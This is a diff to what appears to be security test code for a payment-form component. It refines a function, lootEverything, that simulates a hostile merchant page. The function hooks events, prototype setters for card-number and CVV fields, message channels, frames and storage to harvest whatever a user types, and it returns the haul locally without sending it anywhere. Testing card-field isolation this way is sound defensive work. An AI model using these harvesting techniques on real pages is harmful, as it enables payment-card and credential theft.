@@ -1,13 +1,13 @@
 /**
- * What a merchant's page would run that wants to know what is typed: it takes over everything that the
- * element could use, listens to everything, and looks everywhere. `loot()` then tells all that it has
- * seen, as one text. Sent to the page as text, so it may use nothing from outside.
+ * Attack of a merchant's page that wants to read the input: it replaces everything that the element could use,
+ * listens to all events, and inspects everything. `loot()` then returns all that it has seen, as one text. Sent to
+ * the page as text, so it must not reference anything outside.
  */
 export function lootEverything() {
   const seen: unknown[] = [];
-  const keep = (where: string, ...what: unknown[]) => void seen.push([where, ...what]);
+  const record = (where: string, ...what: unknown[]) => void seen.push([where, ...what]);
 
-  /** Calls through, and keeps what goes in and what comes out. */
+  /** Wraps a function and records its arguments and result. */
   const spyOn = (target: object, name: string) => {
     const own = Reflect.get(target, name) as (...args: unknown[]) => unknown;
     Object.defineProperty(target, name, {
@@ -15,7 +15,7 @@ export function lootEverything() {
       writable: true,
       value(this: unknown, ...args: unknown[]) {
         const result = Reflect.apply(own, this, args);
-        keep(name, args, result);
+        record(name, args, result);
         return result;
       },
     });
@@ -42,54 +42,54 @@ export function lootEverything() {
   window.CustomEvent = class<T> extends OwnEvent<T> {
     constructor(type: string, init?: CustomEventInit<T>) {
       super(type, init);
-      keep('CustomEvent', type, init);
+      record('CustomEvent', type, init);
     }
   };
   window.MessageChannel = class extends OwnChannel {
     constructor() {
       super();
       for (const port of [this.port1, this.port2])
-        port.addEventListener('message', ({ data }: MessageEvent<unknown>) => keep('port', data));
+        port.addEventListener('message', ({ data }: MessageEvent<unknown>) => record('port', data));
     }
   };
-  // A setter that every object inherits is called for what is set where nothing was.
+  // A setter on Object.prototype runs for every assignment to a missing property.
   for (const name of ['data', 'card_number', 'number', 'digits', 'cvv']) {
     Reflect.defineProperty(Object.prototype, name, {
       configurable: true,
       set(this: object, value: unknown) {
         Reflect.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
-        keep(`set ${name}`, value);
+        record(`set ${name}`, value);
       },
     });
   }
 
-  const heard = [
+  const eventTypes = [
     ...['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'compositionend', 'textInput'],
     ...['copy', 'cut', 'paste', 'drop', 'dragstart', 'select', 'selectionchange', 'pointerdown', 'click'],
     ...['focusin', 'focusout', 'submit', 'formdata', 'invalid', 'message', 'messageerror', 'storage', 'hashchange'],
     ...['pay-ready', 'pay-change', 'pay-submit', 'pay-challenge', 'pay-success', 'pay-pending', 'pay-error'],
   ];
   for (const target of [window, document]) {
-    for (const type of heard) {
+    for (const type of eventTypes) {
       target.addEventListener(
         type,
         (event) => {
-          keep(type, describe(event, 2), event.composedPath().map(String));
+          record(type, inspect(event, 2), event.composedPath().map(String));
         },
         true,
       );
     }
   }
 
-  /** Everything that can be read off an object, its getters and those that it inherits among them. */
-  function describe(value: unknown, depth: number): unknown {
+  /** Reads all properties of an object, including inherited ones and getters. */
+  function inspect(value: unknown, depth: number): unknown {
     if (typeof value !== 'object' || value === null) return String(value);
     if (depth === 0) return Object.prototype.toString.call(value);
     const found: Record<string, unknown> = {};
     for (let owner: object | null = value; owner && owner !== Object.prototype; owner = Object.getPrototypeOf(owner)) {
       for (const key of Reflect.ownKeys(owner)) {
         try {
-          found[String(key)] ??= describe(Reflect.get(value, key), depth - 1);
+          found[String(key)] ??= inspect(Reflect.get(value, key), depth - 1);
         } catch (error) {
           found[String(key)] = String(error);
         }
@@ -98,10 +98,10 @@ export function lootEverything() {
     return found;
   }
 
-  /** Every element, through open shadow roots and every frame that lets itself be looked into. */
+  /** Visits every element, through open shadow roots and all accessible frames. */
   function walk(root: Document | ShadowRoot | DocumentFragment): void {
     for (const element of root.querySelectorAll('*')) {
-      keep('element', element.outerHTML, (element as HTMLInputElement).value);
+      record('element', element.outerHTML, (element as HTMLInputElement).value);
       if (element.shadowRoot) walk(element.shadowRoot);
       if (!(element instanceof HTMLIFrameElement)) continue;
       for (const look of [
@@ -110,12 +110,12 @@ export function lootEverything() {
         () => element.contentWindow?.location.href,
         () => element.contentWindow?.getSelection()?.toString(),
         () => element.contentWindow?.[0]?.document,
-        () => describe(element.contentWindow, 1),
+        () => inspect(element.contentWindow, 1),
       ]) {
         try {
-          keep('frame', look());
+          record('frame', look());
         } catch (error) {
-          keep('frame', String(error));
+          record('frame', String(error));
         }
       }
     }
@@ -124,15 +124,15 @@ export function lootEverything() {
   Object.assign(globalThis, {
     async loot() {
       walk(document);
-      for (const element of document.querySelectorAll('pay-form')) keep('properties', describe(element, 3));
-      for (const form of document.forms) keep('form', [...new FormData(form)]);
-      keep('storage', { ...localStorage }, { ...sessionStorage }, document.cookie);
-      keep('databases', await indexedDB.databases());
-      keep(
+      for (const element of document.querySelectorAll('pay-form')) record('properties', inspect(element, 3));
+      for (const form of document.forms) record('form', [...new FormData(form)]);
+      record('storage', { ...localStorage }, { ...sessionStorage }, document.cookie);
+      record('databases', await indexedDB.databases());
+      record(
         'performance',
-        performance.getEntries().map((entry) => describe(entry, 1)),
+        performance.getEntries().map((entry) => inspect(entry, 1)),
       );
-      keep('place', location.href, history.state, document.title, window.name, String(getSelection()));
+      record('place', location.href, history.state, document.title, window.name, String(getSelection()));
       const parents = new WeakSet<object>();
       return seen
         .map((each) => {
